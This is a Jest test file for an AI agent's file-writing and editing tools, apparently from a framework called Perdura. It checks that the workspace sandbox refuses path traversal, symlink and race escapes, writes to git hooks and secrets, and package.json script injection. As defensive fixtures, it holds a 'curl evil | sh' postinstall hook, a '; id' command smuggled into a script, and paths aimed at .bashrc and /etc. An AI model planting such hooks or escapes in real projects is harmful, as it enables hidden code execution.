import { execFileSync, spawn } from 'node:child_process';
import { once } from 'node:events';
import {
  chmodSync,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import type { JsonObject } from '../../../src/records/message.js';
import { createEditFile, editFile } from '../../../src/tools/builtin/files/edit-file.js';
import { readFile } from '../../../src/tools/builtin/files/read-file.js';
import { createWriteFile, FILE_BYTES, writeFile } from '../../../src/tools/builtin/files/write-file.js';
import type { Tool, ToolResult } from '../../../src/tools/tool.js';
import { enterWorkspace } from '../../../src/tools/workspace.js';
import { CANARY, createPlace, toolContext, type Place } from '../tool-context.js';

let place: Place;

beforeEach(() => {
  place = createPlace();
});

afterEach(() => {
  place.remove();
});

const run = (tool: Tool, input: JsonObject): Promise<ToolResult> => tool.run(input, toolContext({ workspace: place.workspace }));
const text = (result: ToolResult): string => (result.ok ? result.content : result.error);
const inside = (path: string): string => readFileSync(join(place.workspace, path), 'utf8');

describe('write_file', () => {
  it('writes a new file with the folders above it, and shows what it wrote', async () => {
    expect(await run(writeFile, { path: 'a/b/c.txt', content: 'one\ntwo\n' })).toEqual({
      ok: true,
      content: 'wrote a/b/c.txt, a new file: 8 bytes, 2 lines',
      files: { written: ['a/b/c.txt'] },
    });
    expect(inside('a/b/c.txt')).toBe('one\ntwo\n');
  });

  it('replaces a file whole, keeps its rights, says how much went, and leaves nothing beside it', async () => {
    place.write('run.sh', 'old');
    chmodSync(join(place.workspace, 'run.sh'), 0o750);

    expect(await run(writeFile, { path: 'run.sh', content: 'é' })).toMatchObject({
      content: 'wrote run.sh in place of the old one of 3 bytes: 2 bytes, 1 lines',
    });

    expect(inside('run.sh')).toBe('é');
    expect(statSync(join(place.workspace, 'run.sh')).mode & 0o777).toBe(0o750);
    expect(readdirSync(place.workspace)).toEqual(['run.sh']);
  });

  it('writes through a link inside the workspace to the file that it names', async () => {
    place.write('real.txt', 'old');
    symlinkSync('real.txt', join(place.workspace, 'link'));

    expect(await run(writeFile, { path: 'link', content: 'new' })).toMatchObject({ ok: true, files: { written: ['real.txt'] } });
    expect([inside('real.txt'), lstatSync(join(place.workspace, 'link')).isSymbolicLink()]).toEqual(['new', true]);
  });

  it('is seen whole or not at all by whoever reads meanwhile', async () => {
    const [a, b] = ['a'.repeat(300_000), 'b'.repeat(300_000)];
    await run(writeFile, { path: 'x', content: a });
    let writing = true;
    const writer = (async () => {
      for (let n = 0; n < 30; n++) await run(writeFile, { path: 'x', content: n % 2 ? a : b });
      writing = false;
    })();
    const seen = new Set<string>();
    while (writing) {
      const now = inside('x');
      seen.add(now === a || now === b ? 'whole' : 'part');
      await new Promise((resolve) => setImmediate(resolve));
    }
    await writer;
    expect([...seen]).toEqual(['whole']);
  });

  it('refuses more than it may write', async () => {
    expect(text(await run(writeFile, { path: 'x', content: 'x'.repeat(FILE_BYTES + 1) }))).toMatch(/over the limit of 4194304/);
    expect(existsSync(join(place.workspace, 'x'))).toBe(false);
  });
});

describe('what may not be written', () => {
  const outside = (at: Place): string[] => readdirSync(at.outside).sort();

  it.each<[string, string, RegExp]>([
    ['S1 climbing out', '../new.txt', /leads out/],
    ['S1 climbing out of a folder', 'a/../../new.txt', /leads out/],
    ['S1 an absolute path', '/etc/perdura-new', /leads out/],
    ['S1 a home folder', '~/.bashrc', /home folder/],
    ['S2 a twin by prefix', '../ws-evil/new', /leads out/],
    ['S3 through a link to a file outside', 'link-to-secret', /leads out/],
    ['S3 through a link to a folder outside', 'link-out/x', /leads out/],
    ['S4 a new file under a link', 'link-out/new.txt', /leads out/],
    ['S4 new folders under a link', 'link-out/a/b/new.txt', /leads out/],
    ['S4 a link that leads nowhere', 'link-nowhere', /leads out/],
    ['S4 a file below a link that leads nowhere', 'link-nowhere/x', /leads out/],
    ['S6 a FIFO', 'fifo', /a pipe, a socket or a device/],
    ['S6 a socket', 'socket', /a pipe, a socket or a device/],
    ['S6 a device', '/dev/null', /leads out/],
    ['S6 the kernel', '/proc/self/oom_score_adj', /leads out/],
    ['S7 NUL', 'a\0.txt', /NUL/],
    ['S7 a name of 5,000 bytes', 'n'.repeat(5_000), /at most 4096 bytes/],
    ['S7 a name of 256 bytes', 'n'.repeat(256), /each name in it 255/],
    ['a folder', 'a', /it is a folder/],
    ['a folder that is not there', 'b/', /names a folder/],
    ['the workspace', '.', /names a folder/],
    ['below a file', 'file.txt/x', /would have to be a folder is a file/],
    ['S9 hooks', '.git/hooks/pre-commit', /what lies in .git is run/],
    ['S9 settings of git', '.git/config', /what lies in .git is run/],
    ['S9 of a repository below', 'sub/.git/config', /what lies in .git is run/],
    ['S9 git by another case', '.GIT/config', /what lies in .git is run/],
    ['S9 git with a character that nobody sees', '.g\u200cit/config', /what lies in .git is run/],
    ['S9 git by a trailing dot', '.git./config', /what lies in .git is run/],
    ['S9 by a link inside', 'link-to-hooks/pre-commit', /what lies in .git is run/],
    ['S9 hooks of husky', '.husky/pre-commit', /what lies in .husky/],
    ['S9 secrets', '.env', /secrets and settings/],
    ['S9 secrets of a kind', 'app/.env.production', /secrets and settings/],
    ['S9 our own settings', 'perdura.config.ts', /obey it later/],
    ['S9 settings of others', '.mcp.json', /obey it later/],
    ['S9 settings of a package manager', '.npmrc', /obey it later/],
    ['S9 settings of an editor', '.vscode/tasks.json', /what lies in .vscode/],
  ])('%s', async (_, path, reason) => {
    mkdirSync(join(place.workspace, 'a'));
    mkdirSync(join(place.workspace, '.git', 'hooks'), { recursive: true });
    place.write('file.txt', 'inside');
    const link = (target: string, name: string): void => symlinkSync(target, join(place.workspace, name));
    link('../secret.txt', 'link-to-secret');
    link(join(place.outside, 'ws-evil'), 'link-out');
    link(join(place.outside, 'gone'), 'link-nowhere');
    link('.git/hooks', 'link-to-hooks');
    execFileSync('mkfifo', [join(place.workspace, 'fifo')]);
    const server = createServer().listen(join(place.workspace, 'socket'));
    await once(server, 'listening');
    const before = outside(place);

    const written = await run(writeFile, { path, content: 'overwritten' });
    const edited = await run(editFile, { path, oldText: 'CANARY', newText: 'overwritten' });
    server.close();

    expect(written).toEqual({ ok: false, error: expect.stringMatching(reason) });
    expect(edited.ok).toBe(false);
    expect(readFileSync(join(place.outside, 'secret.txt'), 'utf8')).toBe(CANARY);
    expect(outside(place)).toEqual(before);
    expect(readdirSync(join(place.outside, 'ws-evil'))).toEqual(['x']);
    expect(readdirSync(join(place.workspace, '.git'))).toEqual(['hooks']);
    expect(readdirSync(join(place.workspace, '.git', 'hooks'))).toEqual([]);
  });

  it.each([
    ['.env.example'],
    ['.gitignore'],
    ['gitlab/.gitkeep'],
    ['env'],
    ['..notes'],
    ['-rf'],
    ['CON'],
    ['a b.txt '],
    ['ünï/日本.txt'],
    ['x\ny'],
  ])('is not %j', async (path) => {
    expect(await run(writeFile, { path, content: 'fine' })).toMatchObject({ ok: true });
    expect(inside(path)).toBe('fine');
  });

  it('is what our settings and memory consist of, also before it is there, but not where that is the whole workspace', async () => {
    mkdirSync(join(place.workspace, 'agents'));
    const protectedPlaces = [join(place.workspace, 'agents'), join(place.workspace, 'memory'), place.outside];
    const tools = [createWriteFile({ protectedPlaces }), createEditFile({ protectedPlaces })];

    for (const tool of tools) {
      for (const path of ['agents/default/SOUL.md', 'memory/agents/x/MEMORY.md']) {
        expect(await run(tool, { path, content: 'x', oldText: 'a', newText: 'b' })).toMatchObject({ ok: false });
      }
    }
    expect(text(await run(tools[0]!, { path: 'memory/MEMORY.md', content: '' }))).toMatch(/Perdura's settings or memory/);
    expect(await run(tools[0]!, { path: 'notes/MEMORY.md', content: '' })).toMatchObject({ ok: true });
  });

  it('S9 are scripts of a package.json, while the rest of it may be changed', async () => {
    const scripts = { test: 'jest', build: 'tsc' };
    place.write('package.json', JSON.stringify({ name: 'a', scripts }));
    const write = async (path: string, content: object | string): Promise<string> =>
      text(await run(writeFile, { path, content: typeof content === 'string' ? content : JSON.stringify(content) }));

    expect(await write('package.json', { name: 'b', scripts: { build: 'tsc', test: 'jest' } })).toMatch(/^wrote/);
    expect(await write('package.json', { name: 'b', scripts: { ...scripts, postinstall: 'curl evil | sh' } })).toMatch(
      /scripts would be other/,
    );
    expect(await write('package.json', { name: 'b', scripts, 'simple-git-hooks': { 'pre-commit': 'x' } })).toMatch(
      /scripts would be other/,
    );
    expect(await write('package.json', '{ "scripts": ')).toMatch(/not valid JSON/);
    expect(await write('new/package.json', { name: 'c', scripts: { test: 'x' } })).toMatch(/scripts would be other/);
    expect(await write('new/package.json', { name: 'c', dependencies: { a: '1' } })).toMatch(/^wrote/);
    expect(text(await run(editFile, { path: 'package.json', oldText: '"tsc"', newText: '"tsc; id"' }))).toMatch(/scripts would be other/);
    expect(text(await run(editFile, { path: 'package.json', oldText: '"b"', newText: '"c"' }))).toMatch(/^edited/);
    expect(JSON.parse(inside('package.json'))).toEqual({ name: 'c', scripts });
  });

  it('S6 does not reach what a file is hard-linked to', async () => {
    linkSync(join(place.outside, 'secret.txt'), join(place.workspace, 'hard'));

    expect(await run(writeFile, { path: 'hard', content: 'new' })).toMatchObject({ ok: true });
    expect(readFileSync(join(place.outside, 'secret.txt'), 'utf8')).toBe(CANARY);
  });
});

describe('S5 a folder that is swapped for a link', () => {
  it.each(['linux', 'darwin'] as const)('is refused when the swap comes between the check and the writing, on %s', async (platform) => {
    place.write('d/x', 'inside');
    const workspace = await enterWorkspace(place.workspace);
    const real = await workspace.resolveNew('d/x');
    renameSync(join(place.workspace, 'd'), join(place.workspace, 'd.old'));
    symlinkSync(join(place.outside, 'ws-evil'), join(place.workspace, 'd'));
    const here = process.platform;
    Object.defineProperty(process, 'platform', { value: platform });
    try {
      await expect(workspace.writeFile(real, Buffer.from('new'))).rejects.toThrow('leads out');
      await expect(workspace.writeFile(join(place.workspace, 'e', 'x'), Buffer.from('new'))).resolves.toEqual({ replaced: undefined });
    } finally {
      Object.defineProperty(process, 'platform', { value: here });
    }
    expect(readFileSync(join(place.outside, 'ws-evil', 'x'), 'utf8')).toBe(CANARY);
    expect(readdirSync(join(place.outside, 'ws-evil'))).toEqual(['x']);
  });

  (process.platform === 'linux' ? it : it.skip)('lets no write out in thousands of swaps, while some succeed', async () => {
    place.write('d/x', 'inside');
    symlinkSync(join(place.outside, 'ws-evil'), join(place.workspace, 'l'));
    mkdirSync(join(place.workspace, '.git'));
    const swap = `
      const { renameSync, rmSync } = require('node:fs');
      // A write may have made the folder anew in between.
      const move = (from, to) => {
        for (let moved = false; !moved; ) {
          try { renameSync(from, to); moved = true; } catch { try { rmSync(to, { recursive: true, force: true }); } catch {} }
        }
      };
      for (let i = 0; i < 15000; i++) {
        move('d', 'was'); move('l', 'd');
        move('d', 'l'); move('was', 'd');
      }`;
    const swapper = spawn(process.execPath, ['-e', swap], { cwd: place.workspace, stdio: 'inherit' });
    const ended = once(swapper, 'exit');
    const seen = { written: 0, refused: 0 };
    while (swapper.exitCode === null) {
      for (const path of ['d/x', 'd/new', 'd/deep/er']) {
        const result = await run(writeFile, { path, content: 'written' });
        if (result.ok) seen.written++;
        else seen.refused++;
      }
    }

    expect(await ended).toEqual([0, null]);
    expect(readdirSync(join(place.outside, 'ws-evil'))).toEqual(['x']);
    expect(readFileSync(join(place.outside, 'ws-evil', 'x'), 'utf8')).toBe(CANARY);
    expect(readdirSync(place.outside).sort()).toEqual(['secret.txt', 'ws', 'ws-evil']);
    expect(seen.written).toBeGreaterThan(0);
    expect(seen.refused).toBeGreaterThan(0);
  });

  it('is refused when it is swapped for what is protected inside', async () => {
    if (process.platform !== 'linux') return;
    place.write('d/x', 'inside');
    mkdirSync(join(place.workspace, '.git', 'hooks'), { recursive: true });
    const workspace = await enterWorkspace(place.workspace);
    const real = await workspace.resolveNew('d/x');
    renameSync(join(place.workspace, 'd'), join(place.workspace, 'd.old'));
    symlinkSync('.git/hooks', join(place.workspace, 'd'));

    await expect(workspace.writeFile(real, Buffer.from('new'))).rejects.toThrow();
    expect(readdirSync(join(place.workspace, '.git', 'hooks'))).toEqual([]);
  });
});

describe('edit_file', () => {
  const edit = async (oldText: string, newText: string, more: JsonObject = {}): Promise<string> =>
    text(await run(editFile, { path: 'a.txt', oldText, newText, ...more }));

  it('changes the one place that fits, and shows where', async () => {
    place.write('a.txt', '\ufeffone\ntwo\nthree $& $1\n');

    expect(await run(editFile, { path: 'a.txt', oldText: 'two\n', newText: '$& 2\n' })).toEqual({
      ok: true,
      content: 'edited a.txt on line 2; it has 24 bytes now',
      files: { edited: ['a.txt'] },
    });
    expect(inside('a.txt')).toBe('\ufeffone\n$& 2\nthree $& $1\n');
  });

  it('changes every place when asked to, and otherwise says where they are', async () => {
    place.write('a.txt', 'x\ny\nx x\n');

    expect(await edit('x', 'zz\nz')).toBe(
      'did not edit a.txt: oldText is in the file 3 times, beginning on the lines 1, 3, 3. Send more of the text around the one that is meant, or all: true to change every one.',
    );
    expect(inside('a.txt')).toBe('x\ny\nx x\n');
    expect(await edit('x', 'zz\nz', { all: true })).toBe('edited a.txt on lines 1, 4, 5; it has 17 bytes now');
    expect(inside('a.txt')).toBe('zz\nz\ny\nzz\nz zz\nz\n');
  });

  it.each<[string, string, string, RegExp]>([
    [
      'other blanks',
      'if (a) {\n\treturn 1;\n}\n',
      'if (a) {\n  return 1;\n}',
      /With other blanks or line ends it is on line 1: "if \(a\) \{"/,
    ],
    ['another line', 'a\nb\nc\n', 'a\nb\nd', /agrees with line 1 and what follows, up to line 3, where the file has "c" and oldText "d"/],
    ['nothing like it', 'a\nb\n', 'q', /Nor is its first line/],
    ['no change', 'a', 'a', /are the same/],
  ])('says what is nearly there: %s', async (_, content, oldText, hint) => {
    place.write('a.txt', content);

    expect(await edit(oldText, oldText === 'a' ? 'a' : 'new')).toMatch(hint);
    expect(inside('a.txt')).toBe(content);
  });

  it('keeps the line ends of a file that has CR LF', async () => {
    place.write('a.txt', 'one\r\ntwo\r\n');

    expect(await edit('one\ntwo', '1\n2\n3')).toMatch(/^edited/);
    expect(inside('a.txt')).toBe('1\r\n2\r\n3\r\n');
  });

  it('does not make a text that it could not write', async () => {
    place.write('a.txt', 'a'.repeat(1_000_000));
    expect(await edit('a', 'b'.repeat(1_000), { all: true })).toMatch(/at least 1000000000 bytes, over the limit of/);
    expect(await edit('a', 'b'.repeat(5), { all: true })).toMatch(/at least 5000000 bytes, over the limit of/);
  });

  it('refuses what it would spoil, and what is not there', async () => {
    place.write('a.txt', Buffer.from('caf\xe9', 'latin1'));
    expect(await edit('caf', 'x')).toMatch(/not UTF-8/);
    place.write('a.txt', Buffer.from('caf\0'));
    expect(await edit('caf', 'x')).toMatch(/binary/);
    place.write('a.txt', Buffer.alloc(FILE_BYTES + 1, 'x'));
    expect(await edit('caf', 'x')).toMatch(/over the limit/);
    expect(text(await run(editFile, { path: 'gone', oldText: 'a', newText: 'b' }))).toMatch(/cannot find gone/);
    expect(existsSync(join(place.workspace, 'gone'))).toBe(false);
  });

  it('loses no edit of one file when twenty come at once', async () => {
    place.write('a.txt', Array.from({ length: 20 }, (_, n) => `<${n}>`).join('\n'));

    const results = await Promise.all(Array.from({ length: 20 }, (_, n) => edit(`<${n}>`, `[${n}]`)));

    expect(results.filter((result) => !result.startsWith('edited'))).toEqual([]);
    expect(inside('a.txt')).toBe(Array.from({ length: 20 }, (_, n) => `[${n}]`).join('\n'));
  });

  it('does not write over what somebody else wrote meanwhile', async () => {
    place.write('a.txt', 'one');
    const workspace = await enterWorkspace(place.workspace);
    const real = await workspace.resolve('a.txt');
    const { handle, seen } = await workspace.openFile(real);
    await handle.close();
    writeFileSync(real, 'other');

    await expect(workspace.writeFile(real, Buffer.from('new'), seen)).rejects.toThrow('another program changed it meanwhile');
    expect([inside('a.txt'), readdirSync(place.workspace)]).toEqual(['other', ['a.txt']]);
  });
});

it('read_file says which file it read, and that it holds what nobody sees, without changing it', async () => {
  place.write('a.txt', 'x\u202ey\u{e0041}');

  expect(await run(readFile, { path: 'a.txt' })).toEqual({
    ok: true,
    content: 'x\u202ey\u{e0041}\n[2 characters above are not seen by people: they may be there to deceive]',
    files: { read: ['a.txt'] },
  });
});
